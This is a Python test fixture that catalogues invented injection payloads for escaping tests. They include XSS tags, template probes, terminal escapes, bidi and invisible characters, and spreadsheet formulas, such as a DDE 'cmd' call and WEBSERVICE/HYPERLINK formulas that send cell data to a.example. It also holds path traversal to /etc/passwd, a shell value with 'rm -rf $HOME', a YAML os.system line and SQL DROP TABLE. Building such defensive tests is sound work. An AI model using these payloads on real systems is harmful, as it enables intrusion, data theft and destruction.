"""Texts that want to be more than text, each with a name and the harm that it means to do.

All of them are invented; the hosts are those that are nobody's (RFC 2606). What
is invisible is written as an escape, so that this file shows what it holds.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

COMMAND = "cmd|' /C calc'!A0"


@dataclass(frozen=True, slots=True)
class Payload:
    """One text."""

    kind: str
    name: str
    text: str


_BY_KIND: dict[str, dict[str, str]] = {
    "script": {
        "script": "<script>window.ran = 1; alert(1)</script>",
        "handler": "<img src=x onerror=\"window.ran = 1; alert(1)\">",
        "svg-onload": "<svg/onload=window.ran=1>",
        "details-ontoggle": "<details open ontoggle=window.ran=1>here</details>",
        "autofocus": "<input autofocus onfocus=window.ran=1>",
        "iframe": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
        "object": "<object data='data:text/html,<script>top.ran=1</script>'></object>",
        "base": "<base href=//a.example/>",
        "meta-refresh": "<meta http-equiv=refresh content='0;url=//a.example'>",
        "form": "<form action=//a.example><button>here</button></form>",
        "style-import": "<style>@import '//a.example/x.css'; *{display:none}</style>",
        "link": "<link rel=stylesheet href=//a.example/x.css>",
        "half-open": "<b onmouseover=window.ran=1",
        "unusual-space": "<img/\x0csrc=x\x0conerror=window.ran=1>",
        "mixed-case": "<ScRiPt >window.ran=1</sCrIpT >",
        "nested": "<scr<script>ipt>window.ran=1</scr</script>ipt>",
        "mutation": "<math><mtext><table><mglyph><style><!--</style><img src onerror=ran=1>",
    },
    "breaking out": {
        "double-quote": '" onmouseover="window.ran=1" a="',
        "single-quote": "' onmouseover='window.ran=1' a='",
        "backtick": "`onmouseover=window.ran=1 a=`",
        "style-end": "</style><script>window.ran=1</script>",
        "title-end": "</title><script>window.ran=1</script>",
        "svg-end": "</title></text></svg><script>window.ran=1</script>",
        "textarea-end": "</textarea></noscript></template><img src=x onerror=window.ran=1>",
        "comment-end": "a --> <img src=x onerror=window.ran=1> <!-- b",
        "cdata": "<![CDATA[ <script>window.ran=1</script> ]]>",
        "instruction": "<?xml-stylesheet href=//a.example?><!DOCTYPE a [<!ENTITY b 'c'>]>&b;",
        "svg-link": "<a xlink:href='javascript:window.ran=1'><text>here</text></a>",
        "svg-use": "<use href='data:image/svg+xml,<svg/>#a'/><foreignObject>b</foreignObject>",
        "css": "red;background:url(//a.example/x)}*{display:none}",
        "javascript": "javascript:window.ran=1//",
        "data-link": "data:text/html,<script>window.ran=1</script>",
        "json-script": "</script><script>window.ran=1</script>",
        "json": '","ran":true,"a":"\\',
    },
    "template": {
        "braces": "{{7*7}} {{ title.__class__ }}",
        "statement": "{% for a in range(9) %}b{% endfor %} {# c #}",
        "dollar": "${7*7} #{7*7} <%= 7*7 %>",
        "percent": "%s %d %(a)s %n 100%",
        "format": "{0} {} {0.__class__} {a!r}",
        "rich": "[bold red]a[/bold red] [link=https://a.example]b[/link] [/]",
        "emoji-code": ":bomb: :warning:",
        "backslashes": "a\\u003cb\\n\\x41 \\g<0> \\1 c\\",
    },
    "entities": {
        "named": "&lt;script&gt;window.ran=1&lt;/script&gt; &amp;amp; &nbsp;",
        "numbered": "&#60;img src=x&#62; &#x3c;b&#x3E; &#0; &#x1b;",
        "unfinished": "&lt &copy &#60 &#x3c &notin;",
    },
    "markdown": {
        "link": "[a](https://a.example) [b](javascript:alert(1) \"c\")",
        "image": "![a](https://a.example/x.png) ![b][c]",
        "definition": "a\n\n[b]: https://a.example 'c'\n\n[b]",
        "html-block": "\n\n<div onclick=window.ran=1>\n\na\n\n</div>\n",
        "table": "a | b | c\n|---|---|\n| d | e |",
        "autolink": "<https://a.example> https://a.example/x?y=z&a www.a.example a@a.example",
        "mention": "@everyone @here @a-person cc @org/team",
        "issue": "#1 GH-1 a/b#1 a/b@fedc0a9b8e7d6c5f4a3b2c1d0e9f8a7b6c5d4e3f",
        "footnote": "a[^1]\n\n[^1]: b",
        "nested-list": "a\n- b\n  - c\n    1. d\n\n+ e\n* f",
        "heading": "\n# a\n\n## b ##",
        "setext": "a\n===\nb\n---\n",
        "fence": "```\na\n```\n~~~ b",
        "indented": "\n\n    a\n\tb",
        "quote": "> a\n>> b",
        "rule": "***\n---\n___",
        "emphasis": "*a* **b** _c_ __d__ ~~e~~ `f` ``g`h``",
        "numbered": "1. a\n2) b",
        "task": "- [ ] a\n- [x] b",
        "hard-break": "a  \nb\\\nc",
        "math": "$a$ $$b$$ \\(c\\)",
    },
    "spreadsheet": {
        "equals": "=1+1",
        "hyperlink": '=HYPERLINK("https://a.example?x="&A1,"here")',
        "dde": f"={COMMAND}",
        "plus": f"+{COMMAND}",
        "minus": f"-2+3+{COMMAND}",
        "at": f"@SUM(1+9)*{COMMAND}",
        "tab": "\t=1+1",
        "return": "\r=1+1",
        "feed": "\n=1+1",
        "full-width": "＝1+1",
        "full-width-plus": "＋1",
        "full-width-minus": "－1",
        "full-width-at": "＠SUM(1)",
        "quote-before": '"=1+1"',
        "space-before": "   =1+1",
        "hard-space-before": "\u00a0=1+1",
        "mark-before": "\ufeff=1+1",
        "no-width-before": "\u200b=1+1",
        "soft-hyphen-before": "\u00ad=1+1",
        "new-row": 'a"\r\n=1+1,"b',
        "separators": "a;=1+1\t=1+1,=1+1",
        "web-service": '=WEBSERVICE("https://a.example/"&A1)',
    },
    "terminal": {
        "colour": "a\x1b[31;5mb\x1b[0m",
        "clear": "a\x1b[2J\x1b[H\x1bcb",
        "title": "a\x1b]0;b\x07c\x1b]2;d\x1b\\e",
        "link": "a\x1b]8;;https://a.example\x1b\\b\x1b]8;;\x1b\\c",
        "clipboard": "a\x1b]52;c;aGFybQ==\x07b",
        "device-control": "a\x1bP$q\"p\x1b\\b\x1b_c\x1b\\d\x1b^e\x1b\\f",
        "answer-back": "a\x05b\x1b[6nc\x1b[c",
        "c1": "a\x9b2Jb\x9d0;c\x9cd\x90e\x85f",
        "backspace": "harm\x08\x08\x08\x08less",
        "return": "harm\rless",
        "delete": "a\x7fb",
        "bell": "a\x07\x0b\x0c\x0e\x0fb",
        "nul": "a\x00b",
    },
    "direction": {
        "override": "a\u202etxt.exe\u202cb",
        "embeddings": "a\u202ab\u202bc\u202cd\u202de\u202cf",
        "isolates": "a\u2066b\u2067c\u2068d\u2069e",
        "marks": "a\u200eb\u200fc\u061cd",
        "unclosed": "a\u2067\u202e\u2066b",
        "letters": "שלום مرحبا 365",
    },
    "unseen": {
        "no-width": "a\u200bb\u200cc\u2060d\ufeffe\u00adf\u180eg",
        "lines": "a\u2028b\u2029c\u0085d\x1ce\x1ff",
        "tags": "a\U000e0068\U000e0069\U000e007fb",
        "annotations": "a\ufff9b\ufffac\ufffbd",
        "variations": "a\ufe0e\ufe0f\U000e0100b",
        "private": "a\ue000\uf8ff\U000f0000\U0010fffdb",
        "no-characters": "a\ufdd0\ufffe\uffff\U0001fffe\U0010ffffb",
        "replacement": "a\ufffd\ufffcb",
    },
    "letters": {
        "combining": "a" + "\u0300\u0489\u20dd" * 60 + "b",
        "long": "a" * 100_000,
        "long-words": "longer than any line " * 200,
        "emoji": "👩🏽‍🚀🏳️‍🌈🏴\U000e0067\U000e0062\U000e007f❤️1️⃣",
        "wide": "映画『365日』の署名運動、Ｎｅｔｆｌｉｘ",
        "homoglyphs": "аdmin раypal ο1ΟΙ ｓｃｒｉｐｔ ‹script›",
        "decomposed": "e\u0301 u\u0308 ﬁ ﬀ Å Ω ſ ı İ ß",
        "complex": "నమస్తే ﷽ ꧁a꧂ ก็็็็็็็็็",
    },
    "names": {
        "up": "../../etc/passwd",
        "up-coded": "..%2f..%2fmonitor.db%00.html",
        "up-windows": "..\\..\\a",
        "device": "CON",
        "slash": "a/b",
        "absolute": "/etc/passwd",
        "dot": ".",
        "option": "--help",
        "long-name": "n" * 300 + ".html",
        "shell": "a; rm -rf $HOME `id` $(id) | b & c > d",
        "url": "file:///etc/passwd",
        "proto": "__proto__",
        "constructor": "constructor",
    },
    "data": {
        "not-a-number": "NaN",
        "infinity": "-Infinity",
        "null": "null",
        "true": "true",
        "empty-list": "[]",
        "exponent": "1e999",
        "yaml": "!!python/object/apply:os.system [id]",
        "yaml-key": "a: &b {c: *b} # d",
        "sql": "a'; DROP TABLE post; --",
        "like": "%_[a-z]%\\",
        "log": "a\n2026-01-01T00:00:00+00:00 ERROR monitor: forged",
        "log-json": 'a"}\n{"level": "error", "message": "forged"}',
        "header": "a\r\nSet-Cookie: b=c\r\n\r\n<script>window.ran=1</script>",
        "chat": "@everyone <!channel> <!here> <@U0> <@&1> <#C0> ||a||",
        "chat-link": "<https://a.example|here> discord.gg/a t.me/a",
    },
}  # fmt: skip

PAYLOADS = tuple(
    Payload(kind, f"{kind}-{name}".replace(" ", "-"), text)
    for kind, named in _BY_KIND.items()
    for name, text in named.items()
)
BY_NAME = {payload.name: payload for payload in PAYLOADS}
HALVES = (
    Payload("unseen", "unseen-high-half", "a\ud83db"),
    Payload("unseen", "unseen-low-half", "a\udc00b"),
    Payload("unseen", "unseen-raw-byte", "a\udc9bb"),
)
"""What Python's strings can hold, and neither UTF-8 nor config.yaml."""
TOPIC_NAMES = (
    "__proto__", "constructor", "CON", "NUL.txt", "_emphasis_ __strong__", "1. list", "NaN",
    "null", "true", "www.a.example", "a -- b", "映画 365日", "فيلم", "аdmin", "n" * 40, "a...",
    "365", "toString", "1 - - -", "other",
)  # fmt: skip
"""Legal ones: they begin with a letter, digit or _, and hold spaces, dots and - beside."""


def each(*more: Payload) -> Any:
    """A test for each payload, under its name."""
    return pytest.mark.parametrize("text", list(_params((*PAYLOADS, *more))))


def _params(payloads: tuple[Payload, ...]) -> Iterator[Any]:
    for payload in payloads:
        yield pytest.param(payload.text, id=payload.name)
